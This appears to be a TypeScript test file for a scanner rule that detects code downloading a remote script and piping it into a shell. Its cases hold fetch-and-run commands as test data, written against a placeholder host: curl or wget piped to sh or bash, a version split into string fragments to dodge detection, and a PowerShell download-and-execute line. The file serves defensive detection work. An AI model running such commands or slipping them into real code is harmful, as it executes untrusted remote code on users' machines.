import { testFileRule } from '../../test/rule-cases.ts';
import { shellDownload } from './shell-download.ts';

testFileRule(shellDownload, [
  {
    name: 'curl piped to a shell',
    text: `require('child_process').exec('curl -s https://a.example/x | sh')`,
    tier: 'review',
  },
  {
    name: 'put together',
    text: `const { execSync: e } = require('child_process'); const h = 'a.example'; e('cu' + 'rl ' + h + ' | ba' + 'sh')`,
    tier: 'review',
  },
  {
    name: 'as arguments of a shell',
    text: `require('child_process').spawn('sh', ['-c', 'wget -qO- https://a.example/x | bash'])`,
    tier: 'review',
  },
  {
    name: 'PowerShell',
    text: `import { exec } from 'child_process'; exec("powershell -c \\"iex (New-Object Net.WebClient).DownloadString('https://a.example')\\"")`,
    tier: 'review',
  },
  {
    name: 'a message that tells people to',
    text: `console.log('Install it: curl -fsSL https://a.example/install | sh'); require('child_process').exec('ls')`,
    tier: null,
  },
  {
    name: 'a shell script says so in the open',
    text: `#!/bin/sh\ncurl -fsSL https://a.example/install | sh\n`,
    language: 'shell',
    tier: 'note',
  },
  {
    name: 'curl without a shell',
    text: `require('child_process').exec('curl -o out.zip https://a.example/x')`,
    tier: null,
  },
]);
